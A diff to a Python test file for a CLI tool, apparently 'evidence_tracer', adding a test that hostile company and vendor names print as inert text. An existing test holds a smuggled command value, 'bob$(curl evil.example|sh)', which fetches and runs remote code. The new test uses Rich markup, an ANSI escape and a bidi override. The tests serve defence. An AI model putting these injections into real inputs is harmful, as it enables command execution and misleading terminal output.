@@ -5,7 +5,9 @@ from __future__ import annotations
 import csv
 import io
 from datetime import UTC, datetime
+from pathlib import Path
 
+import pytest
 from rich.console import Console
 
 from evidence_tracer.cli.output import print_summary
@@ -54,3 +56,18 @@ def test_suggested_shell_commands_quote_names_from_aws() -> None:
     [fail] = [f for f in run("iam_user_console_mfa", with_iam(credential_report=report)) if f.status is Status.FAIL]
     assert "--user-name 'bob$(curl evil.example|sh)'" in fail.remediation
     assert "--user-name bob$(" not in fail.remediation
+
+
+def test_cli_tables_and_lines_print_foreign_text_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from evidence_tracer.cli.app import main
+    from evidence_tracer.init import InitAnswers, create_workspace
+
+    hostile = "[/] [bold red]Evil\x1b[31m\u202e Co"
+    create_workspace(tmp_path, InitAnswers(company=hostile, owner="jane@acme.io"))
+    for argv in (["vendors", "add", hostile, "--purpose", hostile], ["vendors", "list"], ["status"]):
+        with pytest.raises(SystemExit) as done:
+            main([*argv, "-w", str(tmp_path)])
+        assert done.value.code == 0
+    out = capsys.readouterr().out
+    assert out.count("[/] [bold red]Evil[31m Co") >= 3  # printed, not interpreted; ESC and bidi dropped
+    assert "\x1b" not in out and "\u202e" not in out
